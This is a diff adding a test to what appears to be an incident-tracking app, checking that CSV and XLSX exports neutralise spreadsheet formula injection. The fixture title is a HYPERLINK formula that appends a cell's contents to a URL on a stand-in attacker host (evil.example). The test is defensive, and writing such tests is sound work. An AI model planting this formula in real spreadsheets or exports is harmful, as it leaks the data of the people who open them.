@@ -403,6 +403,28 @@ def test_xlsx_and_geopackage_exports_hold_the_same_rows_as_the_csv(
     assert frame.geometry.isna().sum() == 1  # the district-level one: no point
 
 
+def test_texts_that_start_like_formulas_open_as_texts(analyst_client, tmp_path):
+    """A headline from a feed, "=HYPERLINK(…)", must not run in the analyst's
+    spreadsheet: an apostrophe before it in the CSV (as spreadsheets write it),
+    a text cell in the XLSX."""
+    from openpyxl import load_workbook
+
+    title = '=HYPERLINK("http://evil.example/?"&A1,"Details")'
+    _incident(_at("2025-08-28"), title=title, notes="+7 more, -2 later, @ night")
+    body = _export(analyst_client, "csv", city="kyiv").decode("utf-8-sig")
+    assert "'=HYPERLINK(" in body and "'+7 more" in body
+    assert '"=HYPERLINK' not in body.replace("'=HYPERLINK", "")
+    workbook = tmp_path / "incidents.xlsx"
+    response = analyst_client.get(
+        reverse("incident-export", args=["xlsx"]), {"city": "kyiv"}
+    )
+    workbook.write_bytes(b"".join(response.streaming_content))
+    sheet = load_workbook(workbook)["incidents"]
+    header = [c.value for c in sheet[1]]
+    cell = sheet.cell(row=2, column=header.index("title") + 1)
+    assert (cell.value, cell.data_type) == (title, "s")
+
+
 def test_timeline_counts_per_kyiv_day(analyst_client):
     _incident(_at("2025-08-28", "23:50"))
     _incident(_at("2025-08-29", "00:10"))
